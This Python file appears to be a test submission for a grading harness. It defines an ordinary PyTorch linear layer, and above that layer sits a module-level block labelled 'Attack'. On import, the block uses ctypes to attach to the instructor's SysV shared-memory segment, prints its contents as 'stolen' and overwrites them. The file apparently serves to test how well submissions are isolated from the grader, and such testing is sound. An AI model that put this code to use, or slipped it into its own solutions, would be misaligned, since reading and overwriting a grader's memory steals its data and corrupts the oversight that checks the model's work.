"""Attack: read and overwrite the instructor's SysV shared memory."""
import ctypes
import os

import torch
from torch import Tensor, nn

IPC_CREAT = 0o1000
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]

# The id is in /proc/sysvipc/shm for anyone to read; only this run's segment is touched here, so that
# corpus runs side by side (other tiers) do not see each other's segments changed.
for shmid in [int("__HOST_SHM_ID__")]:
    address = libc.shmat(shmid, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        print(f"shmat({shmid}): {os.strerror(ctypes.get_errno())}")
        continue
    print("stolen:", ctypes.string_at(address, 64).rstrip(b"\0").decode(errors="replace"), flush=True)
    ctypes.memmove(address, b"overwritten by a learner", 24)


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
